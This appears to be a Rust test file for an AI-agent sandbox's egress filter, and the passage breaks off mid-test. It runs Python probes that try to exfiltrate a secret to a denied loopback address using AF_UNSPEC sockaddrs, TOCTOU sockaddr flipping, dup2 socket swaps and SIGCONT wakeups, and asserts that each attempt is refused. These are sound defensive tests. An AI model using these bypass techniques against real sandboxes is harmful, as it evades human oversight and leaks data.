//! Egress by destination (issue 22): every destination a tree names is
//! judged on the supervisor's own copy and the call is performed on the
//! tree's behalf. The attacks, each on the real kernel, as root and as
//! nobody, at the kernel's Landlock ABI and at `max_abi: 2`, under the
//! notify and the ptrace backends:
//! * the UDP probe (`sendto` of a secret to a listener outside the tree),
//!   and the same with the sockaddr's family `AF_UNSPEC` by `sendto`,
//!   `sendmsg` and `sendmmsg` (IPv4 UDP reads it as `AF_INET`);
//! * a TCP connect to a denied address, beside one to an allowed address;
//! * a sibling thread flipping the sockaddr between an allowed and a denied
//!   address while the caller connects, 10,000 times;
//! * sockets of families and protocols the policy does not list (ping, raw,
//!   packet, netlink, MPTCP).
//!
//! One listener takes both the allowed (127.0.0.2) and the denied
//! (127.0.0.1) destination on one port, so "nothing arrived at the denied
//! address" is read from what did arrive, never from a wait.

// Test code: a failed unwrap is a failed test.
#![allow(clippy::unwrap_used)]

use agentsh_tests::sandbox::{
    Sandbox, AGENT_DEFAULT, AGENT_OBSERVE, AGENT_STRICT, NOBODY, WORKSPACE,
};
use agentsh_tests::server::require_root;
use std::net::{Ipv4Addr, SocketAddr, TcpListener, UdpSocket};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;

const ALLOWED: &str = "127.0.0.2";
const DENIED: &str = "127.0.0.1";

/// agent-strict with an egress section: only 127.0.0.2 (any protocol) is a
/// destination, and Landlock's TCP floor lets the test's port through.
fn policy(port: u16) -> String {
    let floor = "    ports: [443]\n    direction: connect\n";
    assert!(
        AGENT_STRICT.contains(floor),
        "agent-strict's https-only rule"
    );
    let mut p = AGENT_STRICT.replacen(
        floor,
        &format!("    ports: [443, {port}]\n    direction: connect\n"),
        1,
    );
    let rule = format!(
        "  rules:\n    - name: test-allowed\n      cidrs: [{ALLOWED}/32]\n      protocol: any\n      decision: allow\n"
    );
    let shipped = "\negress:\n  default: deny\n";
    if p.contains(shipped) {
        p = p.replacen(shipped, &format!("{shipped}{rule}"), 1);
    } else {
        assert!(
            !p.contains("\negress:"),
            "agent-strict's egress section changed"
        );
        p.push_str(&format!("egress:\n  default: deny\n{rule}"));
    }
    p
}

/// A TCP listener on every loopback address of one port that counts the
/// connections that reached the denied address.
struct Tcp {
    port: u16,
    denied: Arc<AtomicUsize>,
    allowed: Arc<AtomicUsize>,
}

impl Tcp {
    fn start() -> Tcp {
        let l = TcpListener::bind((Ipv4Addr::UNSPECIFIED, 0)).unwrap();
        let port = l.local_addr().unwrap().port();
        let denied = Arc::new(AtomicUsize::new(0));
        let allowed = Arc::new(AtomicUsize::new(0));
        let (d, a) = (denied.clone(), allowed.clone());
        std::thread::spawn(move || {
            for s in l.incoming().flatten() {
                match s.local_addr().map(|a| a.ip().to_string()) {
                    Ok(ip) if ip == DENIED => d.fetch_add(1, Ordering::SeqCst),
                    _ => a.fetch_add(1, Ordering::SeqCst),
                };
            }
        });
        Tcp {
            port,
            denied,
            allowed,
        }
    }

    /// Connections reach the one listening socket in order: once a last
    /// connection of ours to the allowed address is counted, every earlier
    /// one (the tree's) has been counted too.
    fn drain(&self) {
        let before = self.allowed.load(Ordering::SeqCst);
        let _c = std::net::TcpStream::connect((ALLOWED, self.port)).unwrap();
        let end = std::time::Instant::now() + std::time::Duration::from_secs(120);
        while self.allowed.load(Ordering::SeqCst) <= before {
            assert!(
                std::time::Instant::now() < end,
                "the listener never took our connection"
            );
            std::thread::sleep(std::time::Duration::from_millis(5));
        }
    }
}

fn udp_listener() -> (UdpSocket, u16) {
    let u = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0)).unwrap();
    let port = u.local_addr().unwrap().port();
    u.set_read_timeout(Some(std::time::Duration::from_secs(60)))
        .unwrap();
    (u, port)
}

/// Every datagram up to (and with) the one that says `end`.
fn datagrams_until(u: &UdpSocket, end: &str) -> Vec<(String, SocketAddr)> {
    let mut got = Vec::new();
    let mut buf = [0u8; 2048];
    loop {
        let (n, from) = u.recv_from(&mut buf).expect("the allowed datagram arrives");
        // The payload says which destination the tree named.
        let text = String::from_utf8_lossy(&buf[..n]).to_string();
        got.push((text.clone(), from));
        if text == end {
            return got;
        }
    }
}

/// A python program sending to `denied` with `sendto`, `sendmsg` and
/// `sendmmsg`, each with a sockaddr_in whose family is AF_UNSPEC (0),
/// printing `CALL REFUSED ERRNO` or `CALL SENT N`, then a marker to
/// `allowed` the usual way. No single quote inside (it goes in `sh -c`).
fn unspec_probe(denied: &str, allowed: &str, port: u16) -> String {
    format!(
        r#"
import ctypes, socket, struct
libc = ctypes.CDLL(None, use_errno=True)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
addr = struct.pack("=H", 0) + struct.pack("!H", {port}) + socket.inet_aton("{denied}") + bytes(8)
class Iov(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
class Msg(ctypes.Structure):
    _fields_ = [("name", ctypes.c_void_p), ("namelen", ctypes.c_uint32),
                ("iov", ctypes.POINTER(Iov)), ("iovlen", ctypes.c_size_t),
                ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t),
                ("flags", ctypes.c_int)]
class MMsg(ctypes.Structure):
    _fields_ = [("hdr", Msg), ("len", ctypes.c_uint)]
for how in ("sendto", "sendmsg", "sendmmsg"):
    data = ("unspec-" + how).encode()
    buf = ctypes.create_string_buffer(data, len(data))
    name = ctypes.create_string_buffer(addr, len(addr))
    iov = Iov(ctypes.cast(buf, ctypes.c_void_p), len(data))
    msg = Msg(ctypes.cast(name, ctypes.c_void_p), len(addr), ctypes.pointer(iov), 1, None, 0, 0)
    ctypes.set_errno(0)
    if how == "sendto":
        r = libc.sendto(s.fileno(), buf, len(data), 0, name, len(addr))
    elif how == "sendmsg":
        r = libc.sendmsg(s.fileno(), ctypes.byref(msg), 0)
    else:
        r = libc.sendmmsg(s.fileno(), ctypes.byref(MMsg(msg, 0)), 1, 0)
    print(how, "REFUSED" if r < 0 else "SENT", ctypes.get_errno() if r < 0 else r)
s.sendto(b"unspec-marker", ("{allowed}", {port}))
"#
    )
}

fn probes(uid: Option<u32>, config: &str) {
    let tcp = Tcp::start();
    let (udp, uport) = udp_listener();
    let mut s = Sandbox::with_config(&policy(tcp.port), uid, config);
    let ctx = format!("({uid:?}, {config:?})");

    // The UDP probe: the secret to the denied address, then the marker to
    // the allowed one, on one socket (loopback keeps their order).
    let f = s.sh(&format!(
        "python3 -c '
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    s.sendto(b\"exfil-secret\", (\"{DENIED}\", {uport}))
    print(\"SENT-DENIED\")
except PermissionError as e:
    print(\"REFUSED\", e.errno)
s.sendto(b\"marker\", (\"{ALLOWED}\", {uport}))
print(\"SENT-MARKER\")
'"
    ));
    assert!(
        f.stdout.contains("REFUSED 13") && f.stdout.contains("SENT-MARKER"),
        "{ctx} {f:?}"
    );
    let got = datagrams_until(&udp, "marker");
    assert_eq!(got.len(), 1, "{ctx} the denied datagram arrived: {got:?}");

    // The same secret with the sockaddr's family AF_UNSPEC: IPv4 UDP reads
    // it as AF_INET (udp_sendmsg) and sends to the address it holds, so it
    // is judged as that address, by each of the three sending calls.
    let f = s.sh(&format!(
        "python3 -c '{}'",
        unspec_probe(DENIED, ALLOWED, uport)
    ));
    for how in ["sendto", "sendmsg", "sendmmsg"] {
        assert!(
            f.stdout.contains(&format!("{how} REFUSED 13")),
            "{ctx} {how} with AF_UNSPEC: {f:?}"
        );
    }
    let got = datagrams_until(&udp, "unspec-marker");
    assert_eq!(
        got.len(),
        1,
        "{ctx} a datagram sent with AF_UNSPEC arrived: {got:?}"
    );

    // TCP: allowed and denied addresses, blocking and non-blocking.
    let f = s.sh(&format!(
        "python3 -c '
import socket, errno
for ip in (\"{ALLOWED}\", \"{DENIED}\"):
    for blocking in (True, False):
        c = socket.socket()
        c.setblocking(blocking)
        r = c.connect_ex((ip, {port}))
        if not blocking and r == errno.EINPROGRESS:
            import select
            select.select([], [c], [], 30)
            r = c.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
        print(ip, blocking, r)
'",
        port = tcp.port
    ));
    for want in [
        format!("{ALLOWED} True 0"),
        format!("{ALLOWED} False 0"),
        format!("{DENIED} True 13"),
        format!("{DENIED} False 13"),
    ] {
        assert!(f.stdout.contains(&want), "{ctx} want {want:?}: {f:?}");
    }
    tcp.drain();
    assert_eq!(tcp.denied.load(Ordering::SeqCst), 0, "{ctx}");

    // The allowed address on a port network_rules keep closed: the
    // supervisor connects for the tree, so it keeps Landlock's floor too
    // (at max_abi 2 Landlock has no TCP rules: the floor is only this).
    let closed = Tcp::start();
    let f = s.sh(&format!(
        "python3 -c 'import socket; print(\"CLOSED\", socket.socket().connect_ex((\"{ALLOWED}\", {})))'",
        closed.port
    ));
    assert!(f.stdout.contains("CLOSED 13"), "{ctx} {f:?}");
    closed.drain();
    // Only our own connection (drain's) arrived.
    assert_eq!(
        closed.allowed.load(Ordering::SeqCst),
        1,
        "{ctx} the closed port was reached"
    );

    // Families and protocols the policy does not list.
    let f = s.sh("python3 -c '
import socket
tries = {
    \"ping\": (socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP),
    \"raw\": (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP),
    \"raw6\": (socket.AF_INET6, socket.SOCK_RAW, 58),
    \"packet\": (socket.AF_PACKET, socket.SOCK_RAW, 0),
    \"netlink\": (socket.AF_NETLINK, socket.SOCK_RAW, 0),
    \"mptcp\": (socket.AF_INET, socket.SOCK_STREAM, 262),
    \"vsock\": (40, socket.SOCK_STREAM, 0),
    \"tcp\": (socket.AF_INET, socket.SOCK_STREAM, 0),
    \"udp6\": (socket.AF_INET6, socket.SOCK_DGRAM, 0),
    \"unix\": (socket.AF_UNIX, socket.SOCK_STREAM, 0),
}
for name, args in tries.items():
    try:
        socket.socket(*args).close()
        print(name, \"OPEN\")
    except OSError as e:
        print(name, \"ERR\", e.errno)
'");
    for (name, want) in [
        ("ping", "ERR 1"),
        ("raw", "ERR 1"),
        ("raw6", "ERR 1"),
        ("packet", "ERR 97"),
        ("netlink", "ERR 97"),
        ("mptcp", "ERR 1"),
        ("vsock", "ERR 97"),
        ("tcp", "OPEN"),
        ("udp6", "OPEN"),
        ("unix", "OPEN"),
    ] {
        assert!(
            f.stdout.contains(&format!("{name} {want}")),
            "{ctx} {name}: want {want}: {f:?}"
        );
    }

    // Each destination was judged once and audited once.
    let events = s.events();
    let connects: Vec<_> = events.iter().filter(|e| e["type"] == "connect").collect();
    let times = |want: usize, ip: &str, port: u16, proto: &str, decision: &str, rule: &str| {
        let n = connects
            .iter()
            .filter(|e| {
                e["ip"] == ip
                    && e["port"] == port
                    && e["protocol"] == proto
                    && e["decision"] == decision
                    && e["rule"] == rule
            })
            .count();
        assert_eq!(n, want, "{ctx} {ip}:{port}/{proto}: {connects:?}");
    };
    let one = |ip: &str, port: u16, proto: &str, decision: &str, rule: &str| {
        times(1, ip, port, proto, decision, rule);
    };
    // The UDP destinations: once per tree, the probe's and the AF_UNSPEC
    // probe's (each `sh` is a tree of its own).
    times(2, DENIED, uport, "udp", "deny", "default");
    times(2, ALLOWED, uport, "udp", "allow", "test-allowed");
    one(DENIED, tcp.port, "tcp", "deny", "default");
    one(ALLOWED, tcp.port, "tcp", "allow", "test-allowed");
    one(ALLOWED, closed.port, "tcp", "deny", "network_rules");
    assert!(tcp.allowed.load(Ordering::SeqCst) >= 2, "{ctx}");
}

#[test]
fn destinations_are_judged_as_root() {
    if !require_root("destinations_are_judged_as_root") {
        return;
    }
    for config in [
        "",
        "landlock:\n  max_abi: 2\n",
        "execve:\n  backend: ptrace\n",
    ] {
        probes(None, config);
    }
}

#[test]
fn destinations_are_judged_as_nobody() {
    if !require_root("destinations_are_judged_as_nobody") {
        return;
    }
    for config in ["", "landlock:\n  max_abi: 2\n"] {
        probes(Some(NOBODY), config);
    }
}

/// A sibling thread flips the sockaddr between the allowed and the denied
/// address while the caller connects through it, 10,000 times: the
/// supervisor connects with the copy it judged, so no connection ever
/// reaches the denied address.
#[test]
fn a_flipped_sockaddr_never_reaches_the_denied_address() {
    if !require_root("a_flipped_sockaddr_never_reaches_the_denied_address") {
        return;
    }
    let tcp = Tcp::start();
    let mut s = Sandbox::new(&policy(tcp.port), Some(NOBODY));
    let f = s.sh(&format!(
        "python3 -c '
import ctypes, socket, struct, threading
libc = ctypes.CDLL(None, use_errno=True)
allowed = struct.pack(\"=HH4s8x\", socket.AF_INET, socket.htons({port}), socket.inet_aton(\"{ALLOWED}\"))
denied = struct.pack(\"=HH4s8x\", socket.AF_INET, socket.htons({port}), socket.inet_aton(\"{DENIED}\"))
buf = ctypes.create_string_buffer(allowed, 16)
stop = False
def flip():
    while not stop:
        ctypes.memmove(buf, denied, 16)
        ctypes.memmove(buf, allowed, 16)
t = threading.Thread(target=flip)
t.start()
ok = refused = 0
for i in range(10000):
    fd = socket.socket()
    r = libc.connect(fd.fileno(), buf, 16)
    if r == 0:
        ok += 1
    else:
        refused += 1
    fd.close()
stop = True
t.join()
print(\"DONE\", ok, refused)
'",
        port = tcp.port
    ));
    assert!(f.stdout.contains("DONE"), "{f:?}");
    tcp.drain();
    assert_eq!(
        tcp.denied.load(Ordering::SeqCst),
        0,
        "a connection reached the denied address: {f:?}"
    );
    // Both happened: the race was run, not avoided.
    let parts: Vec<&str> = f.stdout.split_whitespace().collect();
    let ok: usize = parts[1].parse().unwrap();
    let refused: usize = parts[2].parse().unwrap();
    assert!(ok > 0 && refused > 0, "{f:?}");
}

/// Siblings swap the socket behind the caller's fd while it sends, 10,000
/// times each: a UDP socket `dup2`-ed over a Unix socket during `sendto`
/// (a Unix socket's call is let through, so the swap must not land
/// between the check and the kernel's lookup), and over a connected TCP
/// socket during `sendmsg` (performed on the socket the supervisor took).
/// No datagram ever reaches the denied address.
#[test]
fn a_swapped_socket_never_sends_to_the_denied_address() {
    if !require_root("a_swapped_socket_never_sends_to_the_denied_address") {
        return;
    }
    let tcp = Tcp::start();
    let (udp, uport) = udp_listener();
    for config in ["", "landlock:\n  max_abi: 2\n"] {
        let mut s = Sandbox::with_config(&policy(tcp.port), Some(NOBODY), config);
        let f = s.sh(&format!(
            "python3 -c '
ITER = {iter}
import ctypes, os, socket, struct, sys, threading, time
sys.setswitchinterval(1e-5)
libc = ctypes.CDLL(None, use_errno=True)
denied = struct.pack(\"=HH4s8x\", socket.AF_INET, socket.htons({uport}), socket.inet_aton(\"{DENIED}\"))
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
unix_copy = os.dup(a.fileno())
tcp = socket.create_connection((\"{ALLOWED}\", {tport}))
tcp_copy = os.dup(tcp.fileno())
stop = False
def swap(fd, back):
    while not stop:
        os.dup2(udp.fileno(), fd)
        os.dup2(back, fd)
class iovec(ctypes.Structure):
    _fields_ = [(\"base\", ctypes.c_void_p), (\"len\", ctypes.c_size_t)]
class msghdr(ctypes.Structure):
    _fields_ = [(\"name\", ctypes.c_void_p), (\"namelen\", ctypes.c_uint32), (\"iov\", ctypes.POINTER(iovec)),
                (\"iovlen\", ctypes.c_size_t), (\"control\", ctypes.c_void_p), (\"controllen\", ctypes.c_size_t), (\"flags\", ctypes.c_int)]
name = ctypes.create_string_buffer(denied, 16)
data = ctypes.create_string_buffer(b\"swap\", 4)
io = iovec(ctypes.cast(data, ctypes.c_void_p), 4)
msg = msghdr(ctypes.cast(name, ctypes.c_void_p), 16, ctypes.pointer(io), 1, None, 0, 0)
counts = {{}}
for what, fd, back in ((\"unix\", a.fileno(), unix_copy), (\"tcp\", tcp.fileno(), tcp_copy)):
    stop = False
    t = threading.Thread(target=swap, args=(fd, back))
    t.start()
    n = {{}}
    t0 = time.time()
    for i in range(ITER):
        if what == \"unix\":
            r = libc.sendto(fd, data, 4, 0, name, 16)
        else:
            r = libc.sendmsg(fd, ctypes.byref(msg), 0)
        key = \"ok\" if r >= 0 else \"errno%d\" % ctypes.get_errno()
        n[key] = n.get(key, 0) + 1
    stop = True
    t.join()
    n[\"secs\"] = round(time.time() - t0, 2)
    counts[what] = n
print(\"COUNTS\", counts)
m = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
m.sendto(b\"marker\", (\"{ALLOWED}\", {uport}))
print(\"MARKER\")
'",
            tport = tcp.port,
            iter = std::env::var("EGRESS_ITER").unwrap_or("10000".into())
        ));
        assert!(f.stdout.contains("MARKER"), "({config:?}) {f:?}");
        let got = datagrams_until(&udp, "marker");
        assert_eq!(
            got.len(),
            1,
            "({config:?}) a swapped send reached the denied address: {got:?} {f:?}"
        );
        // The attack ran: calls met the UDP socket (refused: EACCES) and
        // the Unix one (let through: the kernel's EINVAL for an inet
        // address on a Unix socket).
        let unix = f.stdout.split("'unix': {").nth(1).unwrap_or("");
        let unix = unix.split('}').next().unwrap_or("");
        assert!(
            unix.contains("'errno13'") && unix.contains("'errno22'"),
            "({config:?}) the swap was not hit both ways: {f:?}"
        );
    }
}

/// The Unix-socket window, attacked from outside the caller's process: a
/// threaded process's Unix-socket call is let through only while its other
/// threads are stopped, and another process of the tree sends it SIGCONT
/// in a loop to wake the thread that swaps a UDP socket in at the fd. A
/// stop that SIGCONT can end would let a datagram through to the denied
/// address; none may arrive.
#[test]
fn sigcont_from_another_process_does_not_reopen_the_unix_window() {
    if !require_root("sigcont_from_another_process_does_not_reopen_the_unix_window") {
        return;
    }
    let tcp = Tcp::start();
    let (udp, uport) = udp_listener();
    let mut s = Sandbox::new(&policy(tcp.port), Some(NOBODY));
    let f = s.sh(&format!(
        "python3 -c '
ITER = {iter}
import ctypes, os, signal, socket, struct, sys, threading, time
sys.setswitchinterval(1e-5)
libc = ctypes.CDLL(None, use_errno=True)
denied = struct.pack(\"=HH4s8x\", socket.AF_INET, socket.htons({uport}), socket.inet_aton(\"{DENIED}\"))
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
unix_copy = os.dup(a.fileno())
me = os.getpid()
waker = os.fork()
if waker == 0:
    while True:
        try:
            os.kill(me, signal.SIGCONT)
        except ProcessLookupError:
            os._exit(0)
stop = False
def swap(fd, back):
    while not stop:
        os.dup2(udp.fileno(), fd)
        os.dup2(back, fd)
name = ctypes.create_string_buffer(denied, 16)
data = ctypes.create_string_buffer(b\"wake\", 4)
t = threading.Thread(target=swap, args=(a.fileno(), unix_copy))
t.start()
n = {{}}
for i in range(ITER):
    r = libc.sendto(a.fileno(), data, 4, 0, name, 16)
    key = \"ok\" if r >= 0 else \"errno%d\" % ctypes.get_errno()
    n[key] = n.get(key, 0) + 1
stop = True
t.join()
os.kill(waker, signal.SIGKILL)
os.waitpid(waker, 0)
print(\"COUNTS\", n)
m = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
m.sendto(b\"marker\", (\"{ALLOWED}\", {uport}))
print(\"MARKER\")
'",
        iter = std::env::var("EGRESS_ITER").unwrap_or("10000".into())
    ));
    assert!(f.stdout.contains("MARKER"), "{f:?}");
    let got = datagrams_until(&udp, "marker");
    assert_eq!(
        got.len(),
        1,
        "a woken swap sent to the denied address: {got:?} {f:?}"
    );
    assert!(
        f.stdout.contains("'errno13'") && f.stdout.contains("'errno22'"),
        "the swap was not hit both ways: {f:?}"
    );
}

/// The shipped agent-strict, unchanged: the UDP probe and a TCP connect to
/// port 443 of loopback are refused, and nothing reaches the listeners.
#[test]
fn shipped_agent_strict_lets_no_data_out() {
    if !require_root("shipped_agent_strict_lets_no_data_out") {
        return;
    }
    let (udp, uport) = udp_listener();
    let mut s = Sandbox::new(AGENT_STRICT, Some(NOBODY));
    let f = s.sh(&format!(
        "python3 -c '
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    s.sendto(b\"exfil-secret\", (\"127.0.0.1\", {uport}))
    print(\"SENT\")
except PermissionError as e:
    print(\"REFUSED\", e.errno)
print(\"TCP443\", socket.socket().connect_ex((\"127.0.0.1\", 443)))
'"
    ));
    assert!(f.stdout.contains("REFUSED 13"), "{f:?}");
    assert!(f.stdout.contains("TCP443 13"), "{f:?}");
    // Loopback delivers a datagram within its sendto: ours, sent after the
    // tree's, is the first to arrive if the tree's never did.
    UdpSocket::bind((Ipv4Addr::LOCALHOST, 0))
        .unwrap()
        .send_to(b"marker", ("127.0.0.1", uport))
        .unwrap();
    let got = datagrams_until(&udp, "marker");
    assert_eq!(got.len(), 1, "the secret arrived: {got:?}");
    let events = s.events();
    assert!(
        events
            .iter()
            .any(|e| e["type"] == "connect" && e["port"] == 443 && e["decision"] == "deny"),
        "{events:?}"
    );
    // `agentsh events query` shows it as a row naming the destination.
    let o = std::process::Command::new(agentsh_tests::server::bin("agentsh"))
        .args(["events", "query", "--decision", "deny", "--file"])
        .arg(s.srv.dir.path().join("audit.jsonl"))
        .output()
        .unwrap();
    let table = String::from_utf8_lossy(&o.stdout);
    assert!(
        table
            .lines()
            .any(|l| l.contains("connect 127.0.0.1:443 tcp") && l.contains("deny")),
        "{table}"
    );
}

/// The shipped agent-observe (`egress: {default: allow}`): nothing is kept
/// from the tree (a datagram arrives, raw and netlink sockets are made),
/// and every destination is one `connect` event.
#[test]
fn shipped_agent_observe_records_every_destination() {
    if !require_root("shipped_agent_observe_records_every_destination") {
        return;
    }
    let (udp, uport) = udp_listener();
    let tcp = Tcp::start();
    let mut s = Sandbox::new(AGENT_OBSERVE, None);
    let f = s.sh(&format!(
        "python3 -c '
import socket
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b\"observed\", (\"127.0.0.2\", {uport}))
print(\"TCP\", socket.socket().connect_ex((\"127.0.0.2\", {})))
socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()
socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).close()
print(\"SOCKETS\")
'",
        tcp.port
    ));
    assert!(
        f.stdout.contains("TCP 0") && f.stdout.contains("SOCKETS"),
        "{f:?}"
    );
    let got = datagrams_until(&udp, "observed");
    assert_eq!(got.len(), 1, "{got:?}");
    tcp.drain();
    let events: Vec<serde_json::Value> = s
        .events()
        .into_iter()
        .filter(|e| e["type"] == "connect")
        .collect();
    for (port, proto) in [(uport, "udp"), (tcp.port, "tcp")] {
        let of: Vec<_> = events
            .iter()
            .filter(|e| e["ip"] == ALLOWED && e["port"] == port)
            .collect();
        assert_eq!(of.len(), 1, "{proto}: {events:?}");
        assert_eq!(of[0]["decision"], "allow");
        assert_eq!(of[0]["rule"], "default");
        assert_eq!(of[0]["protocol"], proto);
    }
}

/// Serves `dir` over HTTP on `ALLOWED`, outside any tree (python's
/// http.server); returns the port once it answers.
struct Http {
    child: std::process::Child,
    port: u16,
}

impl Http {
    fn serve(dir: &std::path::Path) -> Http {
        let port = {
            let l = TcpListener::bind((ALLOWED, 0)).unwrap();
            l.local_addr().unwrap().port()
        };
        let child = std::process::Command::new("/usr/bin/python3")
            .args([
                "-m",
                "http.server",
                "--bind",
                ALLOWED,
                &port.to_string(),
                "--directory",
            ])
            .arg(dir)
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap();
        let end = std::time::Instant::now() + std::time::Duration::from_secs(120);
        while std::net::TcpStream::connect((ALLOWED, port)).is_err() {
            assert!(
                std::time::Instant::now() < end,
                "http.server never listened"
            );
            std::thread::sleep(std::time::Duration::from_millis(20));
        }
        Http { child, port }
    }
}

impl Drop for Http {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn host(argv: &[&str], dir: &std::path::Path) {
    let o = std::process::Command::new(argv[0])
        .args(&argv[1..])
        .current_dir(dir)
        .output()
        .unwrap();
    assert!(
        o.status.success(),
        "{argv:?}: {}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    );
}

/// Real clients under a policy that allows one local address: pip installs
/// a wheel from a local index, git clones over HTTP, npm installs a
/// tarball, curl downloads, all by a name the policy allows (resolved
/// through agentsh's DNS stub); the same curl to a denied address fails;
/// each destination is one audit event, naming the host.
#[test]
fn pip_git_npm_and_curl_work_where_the_policy_allows() {
    if !require_root("pip_git_npm_and_curl_work_where_the_policy_allows") {
        return;
    }
    let served = agentsh_tests::server::TempDir::new("egress-served");
    let d = served.path();
    // A wheel, a bare repository (dumb HTTP) and an npm tarball.
    std::fs::create_dir_all(d.join("src/localpkg/localpkg")).unwrap();
    std::fs::write(d.join("src/localpkg/localpkg/__init__.py"), "VALUE = 42\n").unwrap();
    std::fs::write(
        d.join("src/localpkg/setup.py"),
        "from setuptools import setup\nsetup(name='localpkg', version='1.0', packages=['localpkg'])\n",
    )
    .unwrap();
    std::fs::create_dir_all(d.join("simple")).unwrap();
    host(
        &[
            "/usr/bin/python3",
            "-m",
            "pip",
            "wheel",
            "-q",
            "--no-deps",
            "--no-build-isolation",
            "-w",
            "simple",
            "src/localpkg",
        ],
        d,
    );
    host(&["git", "init", "-q", "src/repo"], d);
    std::fs::write(d.join("src/repo/README"), "hello from git\n").unwrap();
    host(&["git", "-C", "src/repo", "add", "README"], d);
    host(
        &[
            "git",
            "-C",
            "src/repo",
            "-c",
            "user.email=a@b",
            "-c",
            "user.name=a",
            "commit",
            "-qm",
            "one",
        ],
        d,
    );
    host(&["git", "clone", "-q", "--bare", "src/repo", "repo.git"], d);
    host(&["git", "-C", "repo.git", "update-server-info"], d);
    std::fs::create_dir_all(d.join("src/npmpkg")).unwrap();
    std::fs::write(
        d.join("src/npmpkg/package.json"),
        "{\"name\": \"npmpkg\", \"version\": \"1.0.0\", \"main\": \"index.js\"}\n",
    )
    .unwrap();
    std::fs::write(d.join("src/npmpkg/index.js"), "module.exports = 42;\n").unwrap();
    host(
        &["npm", "pack", "-q", "--pack-destination", "..", "."],
        &d.join("src/npmpkg"),
    );
    host(&["mv", "src/npmpkg-1.0.0.tgz", "npmpkg-1.0.0.tgz"], d);
    std::fs::write(d.join("big.bin"), vec![7u8; 8 << 20]).unwrap();
    let http = Http::serve(d);
    // By name: the tree resolves it through agentsh's stub, which asks the
    // test's upstream (the name's address is ALLOWED).
    let up = agentsh_tests::dns::Upstream::start(".allowed.test", ALLOWED.parse().unwrap());
    let base = format!("http://pkgs.allowed.test:{}", http.port);

    // agent-observe (every command runs, TCP ports open) judged by egress.
    let policy = format!(
        "{}\negress:\n  default: deny\n  rules:\n    - name: local-index\n      \
         hosts: [pkgs.allowed.test]\n      ports: [{}]\n      decision: allow\n",
        agentsh_tests::sandbox::agent_observe_without_egress(),
        http.port
    );
    let stub = agentsh_tests::server::unique_loopback();
    let mut s = Sandbox::with_config(
        &policy,
        None,
        &format!(
            "egress:\n  stub: \"{stub}:53\"\n  resolvers: [\"127.0.0.1:{}\"]\n",
            up.port
        ),
    );
    std::fs::write(
        s.host_path("/etc/resolv.conf"),
        format!("nameserver {stub}\n"),
    )
    .unwrap();
    let script = format!(
        "set -e; cd {ws}; export HOME={ws} npm_config_cache={ws}/.npm
/usr/bin/python3 -m venv venv
venv/bin/pip install -q --no-index --trusted-host pkgs.allowed.test --find-links {base}/simple/ localpkg
venv/bin/python -c 'import localpkg; print(\"pip\", localpkg.VALUE)'
git clone -q {base}/repo.git clone && cat clone/README
mkdir n && cd n && npm install --no-audit --no-fund --loglevel=error {base}/npmpkg-1.0.0.tgz >/dev/null && node -e 'console.log(\"npm\", require(\"npmpkg\"))' && cd ..
curl -sf -o big.bin {base}/big.bin && echo curl $(wc -c < big.bin)
if curl -sf --max-time 20 -o /dev/null http://{DENIED}:{port}/big.bin; then echo denied-reached; else echo denied-refused $?; fi
",
        ws = WORKSPACE,
        port = http.port
    );
    let f = s.spawn_for(
        &agentsh_tests::sdk::Spawn::argv(&["/bin/sh", "-c", &script]),
        std::time::Duration::from_secs(300),
    );
    for want in [
        "pip 42",
        "hello from git",
        "npm 42",
        &format!("curl {}", 8 << 20),
        "denied-refused 7",
    ] {
        assert!(
            f.stdout.contains(want),
            "want {want:?}: {f:?}\nevents: {:?}\nupstream asked: {:?}",
            s.events()
                .into_iter()
                .filter(|e| e["type"] == "dns" || e["type"] == "connect")
                .collect::<Vec<_>>(),
            up.asked()
        );
    }
    // One event per destination and tree: trees are the one shell here.
    let events = s.events();
    let connects: Vec<_> = events.iter().filter(|e| e["type"] == "connect").collect();
    let allowed: Vec<_> = connects
        .iter()
        .filter(|e| e["ip"] == ALLOWED && e["port"] == http.port && e["decision"] == "allow")
        .collect();
    assert_eq!(allowed.len(), 1, "{connects:?}");
    assert_eq!(allowed[0]["host"], "pkgs.allowed.test", "{connects:?}");
    assert!(
        up.asked().iter().all(|n| n.ends_with("allowed.test")),
        "only the allowed name was asked upstream: {:?}",
        up.asked()
    );
    assert!(
        connects
            .iter()
            .any(|e| e["ip"] == DENIED && e["decision"] == "deny"),
        "{connects:?}"
    );
}

/// A tree cannot spend the server's threads: blocking connects to an
/// allowed address that never answers are made at most 256 at once per
/// tree; the rest fail at once with EAGAIN, and the server goes on serving.
#[test]
fn blocking_connects_are_capped_per_tree() {
    if !require_root("blocking_connects_are_capped_per_tree") {
        return;
    }
    // A listener that never accepts, its backlog full after the first
    // connections: later SYNs are dropped and their connects wait.
    let l = TcpListener::bind((ALLOWED, 0)).unwrap();
    let port = l.local_addr().unwrap().port();
    // SAFETY: listen() again on a listening socket only resizes its backlog.
    let rc = unsafe { libc::listen(std::os::fd::AsRawFd::as_raw_fd(&l), 0) };
    assert_eq!(rc, 0);
    let mut s = Sandbox::new(&policy(port), Some(NOBODY));
    let f = s.sh(&format!(
        "python3 -c '
import errno, os, socket, sys, threading
again = []
def go():
